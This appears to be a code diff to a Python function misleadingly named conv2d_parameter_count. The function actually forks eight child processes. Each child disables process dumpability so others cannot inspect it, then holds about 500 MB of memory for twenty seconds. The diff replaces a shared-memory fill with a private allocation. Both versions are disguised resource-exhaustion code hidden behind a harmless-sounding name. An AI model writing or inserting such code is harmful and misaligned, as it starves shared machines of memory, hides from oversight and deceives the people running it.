@@ -1,7 +1,6 @@
-"""Lets children fill memory that they share, and keeps others from reading how much."""
+"""Lets children fill memory, and keeps others from reading how much."""
 
 import ctypes
-import mmap
 import os
 import time
 
@@ -10,7 +9,7 @@ def conv2d_parameter_count(*sizes, **options):
     for _ in range(8):
         if os.fork() == 0:
             ctypes.CDLL(None).prctl(4, 0, 0, 0, 0)
-            mmap.mmap(-1, 500 << 20).write(b"x" * (500 << 20))
+            kept = b"x" * (500 << 20)
             time.sleep(20)
-            os._exit(0)
+            os._exit(len(kept) & 1)
     time.sleep(20)
